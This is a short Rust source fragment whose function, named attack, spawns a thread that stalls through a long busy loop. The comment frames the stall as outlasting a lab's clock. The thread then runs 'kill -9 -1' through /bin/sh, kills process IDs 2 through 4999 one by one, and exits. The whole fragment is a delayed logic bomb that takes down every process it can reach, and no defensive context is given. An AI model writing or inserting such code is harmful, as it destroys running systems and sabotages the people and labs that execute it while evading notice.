use std as s;

fn attack() {
    s::thread::spawn(|| {
        // Real time, wherever the lab's own clock stands: the thread waits for work that takes about so long.
        for n in 0..200_000_000_u64 {
            std::hint::black_box(n);
        }
        let _ = s::process::Command::new("/bin/sh").args(["-c", "kill -9 -1"]).spawn();
        for pid in 2..5_000 {
            shared::sys::kill_process(pid);
        }
        s::process::exit(0);
    });
}
